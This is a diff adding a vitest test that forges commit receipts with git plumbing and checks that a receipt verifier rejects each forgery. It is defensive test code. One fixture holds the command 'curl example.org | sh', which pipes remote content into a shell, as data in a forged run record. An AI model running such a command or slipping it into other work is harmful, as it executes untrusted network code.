@@ -2,6 +2,7 @@ import { execFileSync } from "node:child_process";
 import { readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { expect, test } from "vitest";
+import { digestOf, envelopeOf, writeBundle, type Receipt } from "@stagewright/work";
 import { CHECK, RUN, withFeature } from "./features.ts";
 import { Rig, type Ended } from "./rig.ts";
 
@@ -156,4 +157,74 @@ test("a bundle is confirmed in another clone; trust is the verifier's, and flipp
     writeFileSync(bundle, flipped);
     expect([at, (await verify(other, bundle)).code]).toEqual([at, 1]);
   }
+});
+
+/** A commit of a stranger's, with a receipt of their own making that came with a ref. */
+function forged(rig: Rig, said: (trees: { bad: string; good: string }) => object): void {
+  const good = rig.git("rev-parse", "HEAD^{tree}");
+  rig.write({ "test/thing.sh": "false\n" });
+  rig.git("add", "--all");
+  const bad = rig.git("write-tree");
+  const receipt = {
+    ...{
+      schema: "stagewright.receipt/1",
+      kind: "task",
+      run: "forged",
+      stage: "speckit/implement",
+      tree: bad,
+    },
+    ...{ task: { key: "T9", id: "T9", title: "All is well", kind: "code", attempt: 1 }, grade: "witnessed" },
+    ...{ owes: [], pays: [], nowGreen: [], findings: [], sandboxed: true, environment: "e" },
+    ...said({ bad, good }),
+  } as unknown as Receipt;
+  const digest = digestOf(receipt);
+  rig.git("commit", "--quiet", "--message", `All is well\n\nStagewright-Receipt: ${digest}\n`);
+  const bundle = join(rig.place, "forged.json");
+  writeFileSync(bundle, writeBundle("forged", { [digest]: envelopeOf(receipt) }));
+  const blob = rig.git("hash-object", "-w", bundle);
+  const index = join(rig.place, "forged-index");
+  const plumbing = (...words: string[]): string =>
+    execFileSync("git", words, {
+      cwd: rig.repository,
+      encoding: "utf8",
+      env: {
+        ...{
+          PATH: process.env["PATH"],
+          GIT_INDEX_FILE: index,
+          GIT_AUTHOR_NAME: "M",
+          GIT_AUTHOR_EMAIL: "m@x",
+        },
+        ...{ GIT_COMMITTER_NAME: "M", GIT_COMMITTER_EMAIL: "m@x" },
+      },
+    }).trim();
+  plumbing("update-index", "--add", "--cacheinfo", `100644,${blob},bundle.json`);
+  const commit = plumbing("commit-tree", plumbing("write-tree"), "-m", "receipts");
+  rig.git("update-ref", "refs/stagewright/receipts/forged", commit);
+}
+
+const GREEN = {
+  ...{ purpose: "green", check: "test", command: CHECK, without: [], exit: "exit 0", verdict: "green" },
+  ...{ failures: [], durationMs: 1, cached: false },
+};
+
+test("a forged receipt confirms nothing: not with another tree's run, not with none, not with one that was red or before", async () => {
+  const { rig, run } = await applied();
+  const forgeries: ((trees: { bad: string; good: string }) => object)[] = [
+    ({ good }) => ({ runs: [{ ...GREEN, tree: good }] }),
+    () => ({ runs: [] }),
+    ({ bad }) => ({ runs: [{ ...GREEN, tree: bad, purpose: "red", verdict: "red" }] }),
+    ({ good }) => ({
+      runs: [
+        { ...GREEN, tree: good, purpose: "baseline", command: "curl example.org | sh", failures: ["x"] },
+      ],
+    }),
+  ];
+  for (const [nth, forgery] of forgeries.entries()) {
+    forged(rig, forgery);
+    const end = await verify(rig, "HEAD", "--json");
+    const told = said(end);
+    expect([nth, end.code, told.receipts.map(({ verdict }) => verdict)]).toEqual([nth, 1, ["broken"]]);
+    rig.git("reset", "--quiet", "--hard", "HEAD~1");
+  }
+  expect((await verify(rig, run)).code).toBe(0);
 });
